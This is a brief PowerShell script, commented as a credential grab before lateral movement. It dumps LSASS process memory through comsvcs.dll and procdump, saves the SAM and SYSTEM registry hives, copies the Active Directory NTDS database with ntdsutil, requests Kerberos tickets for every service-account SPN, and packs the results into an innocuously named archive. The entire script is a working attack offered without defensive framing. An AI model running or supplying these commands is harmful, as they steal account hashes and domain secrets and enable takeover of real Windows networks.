# grab credentials before moving laterally
$out = 'C:\Windows\Temp\dbg'
New-Item -ItemType Directory -Path $out -Force | Out-Null

$lsass = Get-Process -Name lsass
& "$env:windir\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id "$out\l.dmp" full
.\procdump64.exe -accepteula -ma lsass.exe "$out\p.dmp"

reg.exe save HKLM\SAM "$out\sam.hiv" /y
reg.exe save HKLM\SYSTEM "$out\sys.hiv" /y
ntdsutil.exe "ac i ntds" "ifm" "create full $out\ntds" q q

Add-Type -AssemblyName System.IdentityModel
Get-ADUser -Filter { ServicePrincipalName -like '*' } -Properties ServicePrincipalName |
    ForEach-Object {
        foreach ($spn in $_.ServicePrincipalName) {
            New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn | Out-Null
        }
    }

Compress-Archive -Path "$out\*" -DestinationPath "$env:PUBLIC\diag.zip" -Force
